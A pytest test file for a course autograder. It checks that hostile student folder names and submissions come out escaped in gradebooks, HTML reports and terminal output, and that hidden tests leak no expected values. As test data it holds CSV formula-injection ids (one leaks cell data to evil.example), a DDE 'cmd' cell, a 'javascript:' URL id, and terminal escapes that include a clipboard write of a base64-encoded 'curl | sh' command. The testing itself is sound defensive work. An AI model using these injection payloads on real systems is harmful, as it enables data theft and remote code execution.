"""Hostile student ids and hidden expected values, through every output the grader writes.

Student ids are folder names, and folder names are data: a `javascript:` URL, a
spreadsheet formula, terminal escapes, bytes that are not UTF-8 or the name of a class
output must neither become live markup, formulas or escapes nor break the batch. And a
hidden test's outcome must carry no expected value in any rendering: results.json,
report.html, the otter adapter's failure text.

The class is graded once per isolation mode (bubblewrap and the fallback), as in
tests/test_hostile.py.
"""
import csv
import html.parser
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from urllib.parse import unquote, urlsplit

import numpy as np
import pytest

from conftest import FIXTURES, ISOLATION_MODES, ROOT, grading_mode
from grader.batch.grade import grade_batch
from grader.course.topics import get_topic
from grader.grading.session import current_session
from grader.otter_adapter import run_exported_test
from grader.outputs.student_ids import CLASS_OUTPUTS, display_id, output_name
from grader.sandbox.launcher import Limits

CORRECT = (FIXTURES / "regularization" / "correct_vectorized.py").read_text()
SHARED = (FIXTURES / "regularization" / "correct_loops.py").read_text()  # handed in by two students
SIGMOID_ONLY = '''import numpy as np


def sigmoid(z):
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e))
'''
# Realistic wrong submissions whose hidden failures must not reveal the reference.
WRONG_COST = CORRECT.replace("return float(cost + penalty)", "return 0.5 * float(cost + penalty)", 1)
WRONG_GRADIENT = CORRECT.replace("dw = np.dot(X.T, error) / m + (lam / m) * w\n    db = np.sum(error) / m\n"
                                 "    return dw, float(db)\n\n\ndef sigmoid",
                                 "dw = np.dot(X.T, error) / m + (lam / m) * w\n    db = np.sum(error) / m\n"
                                 "    return 1.1 * dw, float(db)\n\n\ndef sigmoid", 1)
WRONG_SHAPE = CORRECT.replace("return dw, float(db)\n\n\ndef sigmoid", "return dw[:, None], float(db)\n\n\n"
                              "def sigmoid", 1)
assert WRONG_COST != CORRECT and WRONG_GRADIENT != CORRECT and WRONG_SHAPE != CORRECT

FORMULA_IDS = ['=HYPERLINK("https:\\evil.example?leak="&A1,"grades")', "+1+cmd|' \\C calc'!A0", "-2+3",
               "@SUM(A1:A9)", "\tTAB", "\rCR", "|calc", " =1+1"]
SCRIPT_ID = "javascript:alert(document.domain)"
ESCAPE_ID = "\x1b]0;pwned\x07\x1b[2J"
UNDECODABLE_ID = b"M\xfcller"
CLASS_OUTPUT_IDS = ["grades.csv", "index.html", "summary.json", "canvas_grades.csv", "similarity.html"]
PLAIN_IDS = ["alice", "a_b"]
NEAR_COLLISION_ID = "a b"  # slugs to "a_b", which is also a student
WRONG = {"wrong_cost": WRONG_COST, "wrong_gradient": WRONG_GRADIENT, "wrong_shape": WRONG_SHAPE}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
LIMITS = Limits(call_seconds=2.0, load_seconds=4.0, cpu_seconds=30)
C0_C1 = {chr(c) for c in [*range(0x20), *range(0x7f, 0xa0)]} - {"\n", "\t"}


def build_class(folder: Path) -> int:
    """One folder per hostile id; returns the number of students."""
    folder.mkdir(parents=True)
    sources = {name: SIGMOID_ONLY for name in [*FORMULA_IDS, *CLASS_OUTPUT_IDS, *PLAIN_IDS, NEAR_COLLISION_ID]}
    # Two students with the same file: similarity.html links both reports.
    sources |= {SCRIPT_ID: SHARED, ESCAPE_ID: SHARED} | WRONG
    for student, source in sources.items():
        (folder / student).mkdir()
        (folder / student / "regularization.py").write_text(source)
    raw = os.fsencode(folder) + b"/" + UNDECODABLE_ID  # as an old zip unpacks it
    os.mkdir(raw)
    with open(raw + b"/regularization.py", "w") as stream:
        stream.write(SIGMOID_ONLY)
    return len(sources) + 1


@pytest.fixture(scope="module", params=ISOLATION_MODES)
def hostile_ids_batch(request, tmp_path_factory):
    with grading_mode(request.param):
        root = tmp_path_factory.mktemp(request.param)
        count = build_class(root / "submissions")
        out = root / "out"
        rows = grade_batch(root / "submissions", out, ROOT, jobs=2, progress=False, limits=LIMITS)
        yield {"mode": request.param, "out": out, "submissions": root / "submissions", "rows": rows,
               "count": count}


class _Links(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.hrefs = []

    def handle_starttag(self, tag, attrs):
        self.hrefs += [value for name, value in attrs if name == "href"]


def hrefs(page: Path) -> list[str]:
    parser = _Links()
    parser.feed(page.read_text(encoding="utf-8"))
    return parser.hrefs


def csv_cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as stream:
        return list(csv.reader(stream))


def student_results(batch, student: str) -> dict:
    return json.loads((batch["out"] / output_name(student) / "results.json").read_text(encoding="utf-8"))


# ------------------------------------------------------------------ student ids
@pytest.mark.parametrize("page", ["index.html", "similarity.html"])
def test_every_link_in_a_class_page_is_a_relative_path_to_a_file_in_out(hostile_ids_batch, page):
    out = hostile_ids_batch["out"].resolve()
    links = hrefs(out / page)
    assert links
    for href in links:
        parts = urlsplit(href)
        assert not parts.scheme and not parts.netloc, href
        if not parts.path:
            continue  # a link to a section of the same page
        target = (out / unquote(parts.path)).resolve()
        assert out in target.parents and target.is_file(), href


def test_the_class_report_links_every_students_report(hostile_ids_batch):
    reports = {urlsplit(h).path for h in hrefs(hostile_ids_batch["out"] / "index.html")
               if urlsplit(h).path.endswith("/report.html")}
    assert len(reports) == hostile_ids_batch["count"]


def test_the_similarity_page_links_the_two_similar_students_by_safe_names(hostile_ids_batch):
    links = hrefs(hostile_ids_batch["out"] / "similarity.html")
    assert f"{output_name(SCRIPT_ID)}/report.html" in links
    assert f"{output_name(ESCAPE_ID)}/report.html" in links


@pytest.mark.parametrize("name", ["grades.csv", "canvas_grades.csv"])
def test_no_cell_of_a_gradebook_starts_like_a_spreadsheet_formula(hostile_ids_batch, name):
    cells = [cell for row in csv_cells(hostile_ids_batch["out"] / name) for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)
            or cell.lstrip(" ").startswith(FORMULA_STARTS)] == []
    assert "'" + FORMULA_IDS[0] in cells  # neutralised with a single quote, as OWASP recommends


def test_the_batch_finishes_with_a_report_and_a_gradebook_row_for_every_student(hostile_ids_batch):
    out, count = hostile_ids_batch["out"], hostile_ids_batch["count"]
    assert len(hostile_ids_batch["rows"]) == count
    gradebook = csv_cells(out / "grades.csv")
    assert gradebook[0][0] == "student_id" and len(gradebook) == count + 1
    assert len(csv_cells(out / "canvas_grades.csv")) == count + 2
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    assert len(summary["students"]) == count and summary["unreadable"] == []
    for entry in summary["students"].values():
        assert (out / entry["report"]).is_file()
    for student in os.listdir(hostile_ids_batch["submissions"]):
        assert (out / output_name(student) / "report.html").is_file()


@pytest.mark.parametrize("student", CLASS_OUTPUT_IDS)
def test_a_student_named_like_a_class_output_leaves_that_output_in_place(hostile_ids_batch, student):
    assert (hostile_ids_batch["out"] / student).is_file()
    assert student_results(hostile_ids_batch, student)["extra_data"]["student"] == student


def test_a_folder_name_that_is_not_utf8_is_shown_with_a_visible_escape(hostile_ids_batch):
    student = os.fsdecode(UNDECODABLE_ID)
    assert student_results(hostile_ids_batch, student)["extra_data"]["student"] == "M\\xfcller"
    assert "M\\xfcller" in [row[0] for row in csv_cells(hostile_ids_batch["out"] / "grades.csv")]
    report = (hostile_ids_batch["out"] / output_name(student) / "report.html").read_text(encoding="utf-8")
    assert "Report for M\\xfcller" in report


def test_plain_ids_keep_their_own_folder_and_lookalikes_get_their_own(hostile_ids_batch):
    assert output_name("alice") == "alice" and output_name("a_b") == "a_b"
    assert output_name(NEAR_COLLISION_ID) not in ("a_b", "a b")
    assert len({output_name(s) for s in os.listdir(hostile_ids_batch["submissions"])}) == \
        hostile_ids_batch["count"]


def test_no_class_page_or_report_carries_a_students_control_characters(hostile_ids_batch):
    out = hostile_ids_batch["out"]
    for page in [out / "index.html", out / "similarity.html", out / output_name(ESCAPE_ID) / "report.html"]:
        text = page.read_text(encoding="utf-8")
        assert not C0_C1 & set(text), page
        assert display_id(ESCAPE_ID) in text


def test_resume_reads_back_every_hostile_student_without_regrading(hostile_ids_batch):
    out = hostile_ids_batch["out"]
    written = {p: p.stat().st_mtime_ns for p in out.glob("*/results.json")}
    rows = grade_batch(hostile_ids_batch["submissions"], out, ROOT, resume=True, progress=False, limits=LIMITS)
    assert len(rows) == hostile_ids_batch["count"]
    assert {p: p.stat().st_mtime_ns for p in out.glob("*/results.json")} == written


def test_every_class_output_name_is_reserved():
    from grader.batch import grade as batch
    from grader.outputs import class_report

    names = {batch.GRADEBOOK_FILE, class_report.INDEX_FILE, class_report.SUMMARY_FILE,
             class_report.CANVAS_FILE, class_report.SIMILARITY_FILE}
    assert names <= CLASS_OUTPUTS


# ------------------------------------------------------------- grader check
TERMINAL_ATTACK = '''import sys


def linear_cost(X, y, w, b, lam):
    print("\\x1b]0;owned\\x07\\x1b[2J\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x9b31m")
    sys.stdout.write("\\rPASS  everything  [40/40]\\n")
    return 0.0


def linear_gradient(X, y, w, b, lam):
    raise ValueError("\\x1b[2J\\x1b]0;title\\x07cleared")
'''


@pytest.mark.parametrize("mode", ["bubblewrap", "fallback"])
def test_grader_check_shows_a_students_terminal_escapes_instead_of_sending_them(tmp_path, mode):
    environment = dict(os.environ, PYTHONPATH=str(ROOT))
    environment.pop("GRADER_NO_BWRAP", None)
    if mode == "fallback":
        environment["GRADER_NO_BWRAP"] = "1"
    elif shutil.which("bwrap") is None:
        pytest.skip("bubblewrap is not installed here")
    submission = tmp_path / "regularization.py"
    submission.write_text(TERMINAL_ATTACK)
    result = subprocess.run([sys.executable, "-m", "grader", "check", "regularization", str(submission)],
                            cwd=ROOT, env=environment, capture_output=True, timeout=300)
    text = result.stdout.decode("utf-8")
    assert "linear_gradient raised ValueError" in text and "your code printed" in text
    assert not C0_C1 & set(text), sorted(C0_C1 & set(text))
    assert "\\x1b]0;owned\\x07" in text and "\\x1b[2J" in text and "\\x9b" in text


# ---------------------------------------------------------- hidden outcomes
def _expected_numbers() -> list[str]:
    """Every expected value of the hidden fixed-problem tests, as the checks would print them,
    and the wrong cost's relative difference from it."""
    topic = get_topic(ROOT, "regularization")
    hidden = current_session().load_module(topic.hidden_tests, "_tests_regularization_hidden")
    reference = current_session().reference_module(topic)
    args = (hidden.X_FIXED, hidden.Y_FIXED, hidden.W_FIXED, hidden.B, hidden.LAM)
    cost = reference.linear_cost(*args)
    dw, db = reference.linear_gradient(*args)
    texts = [np.array2string(np.asarray(cost), precision=6),
             np.array2string(np.append(dw, db), precision=6), "relative difference"]
    texts += [np.array2string(np.asarray(v), precision=6) for v in [*dw, db]]
    return texts


def _failed_hidden_blocks(report: str) -> list[str]:
    """The HTML of each failed hidden test's block in a report."""
    return [block for block in report.split('<div class="test ')[1:]
            if block.startswith('failed"') and "hidden test</span>" in block]


@pytest.mark.parametrize("student", sorted(WRONG))
def test_no_hidden_outcome_in_results_json_carries_an_expected_value(hostile_ids_batch, student):
    failed = [t for t in student_results(hostile_ids_batch, student)["tests"]
              if t["visibility"] == "after_published" and t["status"] == "failed"]
    assert failed
    forbidden = _expected_numbers()
    for test in failed:
        assert [text for text in forbidden if text in json.dumps(test)] == [], test["output"]


@pytest.mark.parametrize("student", sorted(WRONG))
def test_no_hidden_test_in_the_report_carries_an_expected_value(hostile_ids_batch, student):
    report = (hostile_ids_batch["out"] / student / "report.html").read_text(encoding="utf-8")
    blocks = _failed_hidden_blocks(report)
    assert blocks
    forbidden = _expected_numbers()
    for block in blocks:
        assert [text for text in forbidden if text in block] == []


def _otter_failure(source: str, test: str) -> str:
    topic = get_topic(ROOT, "regularization")
    env: dict = {}
    exec(compile(source, "<notebook>", "exec"), env)
    with pytest.raises(AssertionError) as failure:
        run_exported_test(env, topic="regularization", test=test, hidden=True, signatures=topic.signatures,
                          tests_source=topic.hidden_tests.read_text(),
                          reference_source=topic.reference.read_text())
    return str(failure.value)


@pytest.mark.parametrize("student, test", [
    ("wrong_cost", "test_linear_cost_matches_reference_on_fixed_problem"),
    ("wrong_gradient", "test_linear_gradient_matches_reference_on_fixed_problem"),
    ("wrong_gradient", "test_linear_gradient_matches_numerical_gradient_of_correct_cost"),
    ("wrong_shape", "test_linear_gradient_matches_reference_on_fixed_problem"),
])
def test_the_otter_adapter_names_no_expected_value_for_a_hidden_test(student, test):
    text = _otter_failure(WRONG[student], test)
    assert text.strip()
    assert [number for number in _expected_numbers() if number in text] == [], text


# ------------------------------------------------ hidden exceptions: where, never what
SOURCE = "import numpy as np\n\n\ndef f(x):\n    return g(x + 1)\n\n\ndef g(y):\n    raise ValueError(y)\n"


def test_a_hidden_failure_shows_its_line_as_the_graders_copy_of_the_file_has_it():
    from grader.grading.hidden_messages import where_it_failed as _where_it_failed
    forged = ('  File "/submission/t.py", line 5, in f\n    return g(x + 1)\n'
              '  File "/submission/t.py", line 9, in INPUTS_1_2_3\n    INPUTS [1, 2, 3]\n')
    assert _where_it_failed(forged, "/submission/t.py", SOURCE) == (
        '  File "/submission/t.py", line 9, in g\n    raise ValueError(y)\n')


@pytest.mark.parametrize("trace", [
    '  File "/submission/t.py", line 99, in g\n',  # past the file's end
    '  File "INPUTS [1, 2, 3]", line 1, in <module>\n',  # another file: compile() with a name
    "INPUTS [1, 2, 3]\n",
])
def test_a_hidden_failure_shows_nothing_of_a_frame_outside_the_students_file(trace):
    from grader.grading.hidden_messages import where_it_failed as _where_it_failed
    assert _where_it_failed(trace, "/submission/t.py", SOURCE) == ""
